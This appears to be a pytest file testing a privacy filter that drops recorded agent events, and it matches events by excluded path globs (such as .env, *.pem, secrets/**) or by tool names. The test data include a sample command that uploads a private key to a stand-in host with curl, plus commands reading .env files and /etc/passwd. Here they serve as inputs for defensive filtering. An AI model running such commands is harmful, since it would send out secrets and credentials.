"""What a project excludes is dropped as a whole, by the path or the tool that an event is about."""

from __future__ import annotations

import time
from typing import Any

import pytest

from muster.domain.privacy import scrub


@pytest.mark.parametrize(
    ("glob", "value", "meets"),
    [
        (".env", {"file_path": "/home/me/repo/.env"}, True),
        (".env", {"command": "cat .env | head"}, True),
        (".env", {"command": "cat .env.example"}, False),
        (".env", {"text": "os.environ"}, False),
        (".env*", {"path": "a/.env.local"}, True),
        ("*.pem", {"edits": [{"path": "certs/server.pem"}]}, True),
        ("*.pem", {"path": "certs/server.pem.md"}, False),
        ("secrets/**", {"command": "vi ./secrets/prod/db.yaml"}, True),
        ("secrets/", {"changes": {"secrets/db.yaml": "+1"}}, True),
        ("secrets/**", {"text": "we keep secrets well"}, False),
        ("secrets/", {"text": "we keep secrets well"}, False),
        ("secrets/**", {"command": "ls -la secrets && true"}, True),
        ("secrets/**", {"command": "cd 'secrets' && cat db.yaml"}, True),
        ("secrets/**", {"argv": ["find", "secrets", "-name", "*.yaml"]}, True),
        ("secrets/", {"cwd": "/home/me/repo/secrets"}, True),
        ("secrets/", {"path": "secrets"}, True),
        ("secrets/**", {"text": "echo secrets; ls\nsecrets are kept"}, False),
        ("src/private/", {"path": "src/private"}, True),
        ("src/private/", {"command": "ls src/private && true"}, True),
        ("src/private/", {"path": "repo/src/./private/x"}, True),
        ("src/private/", {"path": "src/private.py"}, False),
        ("src/private/**", {"command": "ls src/private"}, True),
        ("secrets/**", {"command": "git commit -m 'we keep secrets well'"}, False),
        ("secrets/**", {"prompt": "find secrets in this code"}, False),
        ("secrets/**", {"command": "ls secrets.md my-secrets"}, False),
        ("src/private/", {"path": "src/privately"}, False),
        ("infra/**/keys", {"path": "infra/a/b/keys/x"}, True),
        ("infra/**/keys", {"path": "infra/keys"}, True),
        ("infra/*/keys", {"path": "infra/a/b/keys"}, False),
        ("/etc/**", {"path": "/etc/passwd"}, True),
        ("/etc/**", {"path": "/home/me/etc/passwd"}, False),
        ("/secrets/**", {"path": "secrets/a"}, True),
        ("/build/", {"command": "cat ./build/a"}, True),
        ("/secrets/**", {"path": "/home/me/p/secrets/a", "cwd": "/home/me/p"}, True),
        ("/secrets/**", {"path": "/home/me/p/old/secrets/a", "cwd": "/home/me/p"}, False),
        ("secrets/**", {"command": "curl -F file=@secrets/k.pem http://x.example"}, True),
        ("src/private.py", {"path": "C:\\repo\\SRC\\private.py"}, True),
        ("a?c", {"path": "x/abc/y"}, True),
        ("our keys/**", {"command": "cat our\\ keys/a.txt"}, True),
        ("our keys/**", {"command": "cd our\\ keys && cat a.txt"}, True),
        ("our keys/**", {"arguments": '{"command": "cd our\\\\ keys"}'}, True),
        ("our keys/**", {"path": "C:\\repo\\our keys\\a.txt"}, True),
        ("our keys/**", {"command": "cat our\\ keys2/a.txt"}, False),
        ("old (1)/**", {"command": "cat old\\ \\(1\\)/a.txt"}, True),
        (".env", {"path": "C:\\repo\\.env"}, True),
        ("/our keys/**", {"command": "cat /my\\ p/our\\ keys/a", "cwd": "/my p"}, True),
        ("Ärger.txt", {"path": "/Users/u/A\u0308rger.txt"}, True),
        ("A\u0308rger.txt", {"path": "/Users/u/Ärger.txt"}, True),
        ("A\u0308rger/", {"command": "ls Ärger"}, True),
        ("비밀.txt", {"path": "\u1107\u1175\u1106\u1175\u11af.txt"}, True),
        ("/Ä/x", {"path": "/p/U\u0308/A\u0308/x", "cwd": "/p/Ü"}, True),
        ("Ärger.txt", {"path": "/Users/u/Arger.txt"}, False),
    ],
)
def test_paths_that_are_excluded(glob: str, value: dict[str, Any], meets: bool) -> None:
    kept, removed = scrub(value, [glob])
    assert (removed.excluded == glob) is meets, removed
    assert (kept is None) is meets


@pytest.mark.parametrize(
    ("glob", "value", "meets"),
    [
        ("Bash", {"tool_name": "Bash", "tool_input": {}}, True),
        ("bash", {"tool": "Bash"}, True),
        ("mcp__mail__*", {"toolName": "mcp__mail__read"}, True),
        ("Bash", {"content": [{"type": "tool_use", "name": "Bash", "input": {}}]}, True),
        ("WebFetch", {"tool": {"name": "WebFetch", "url": "https://a.example"}}, True),
        ("mcp__mail__*", {"role": "tool", "name": "mcp__mail__read", "content": "x"}, True),
        ("mcp__mail__*", {"role": "function", "name": "mcp__mail__read", "content": "x"}, True),
        ("mcp__mail__*", {"parts": [{"functionResponse": {"name": "mcp__mail__read"}}]}, True),
        ("mcp__mail__*", {"parts": [{"function_call": {"name": "mcp__mail__read"}}]}, True),
        ("mcp__mail__*", {"name": "mcp__mail__read", "result": "x"}, True),
        ("mcp__mail__*", {"name": "mcp__mail__read", "toolCallId": "1"}, True),
        ("mcp__mail__*", {"item": {"type": "mcp_tool_call", "server": "mail", "tool": "read", "result": "x"}}, True),
        ("mcp__mail__*", {"invocation": {"server": "mail", "tool": "read", "arguments": {}}}, True),
        ("mcp__mail__*", {"type": "mcp_tool_use", "server_name": "mail", "name": "read", "input": {}}, True),
        ("mcp__mail__*", {"type": "mcp_call", "server_label": "mail", "name": "read", "arguments": "{}"}, True),
        ("mcp__my_mail__*", {"server": "my mail", "tool": "read"}, True),
        ("mcp__mail__*", {"type": "function_call", "name": "mail__read", "arguments": "{}"}, True),
        ("mcp__mail__*", {"tool_name": "mcp_mail_read"}, True),
        ("mcp__mail__*", {"server": "wiki", "tool": "mail"}, False),
        ("mcp__mail__*", {"server": "mail", "name": "a host"}, False),
        ("mcp__mail__*", '{"tool_name": "mcp__mail__read", "tool_response": "x"}', True),
        ("Bash", {"name": "Bash", "text": "a person"}, False),
        ("Bash", {"tool_name": "BashOutput"}, False),
        ("Bash", {"text": "Bash"}, False),
    ],
)
def test_tools_that_are_excluded(glob: str, value: Any, meets: bool) -> None:
    assert (scrub(value, [], [glob])[1].excluded == glob) is meets


def test_globs_are_quick_too() -> None:
    began = time.thread_time()
    for text in (
        "a" * 200_000,
        "a/" * 100_000,
        "aaaa.pem" * 25_000,
        "/" * 200_000,
        "\\ " * 100_000,
        "a\u0315\u0300" * 60_000,
        "a" + "\u0315\u0300" * 90_000,
    ):
        scrub(text, ["*a*a*a*a*b", "**/a/**/b", "*.pem*.key", "a/**/**/z"])
    for text in ("ls " * 70_000, "ls a " * 40_000, "a " * 100_000):
        scrub({"command": text}, ["b/**", "a.b/"])
        scrub({"command": text + "; a"}, ["a/**"])
    assert time.thread_time() - began < 5
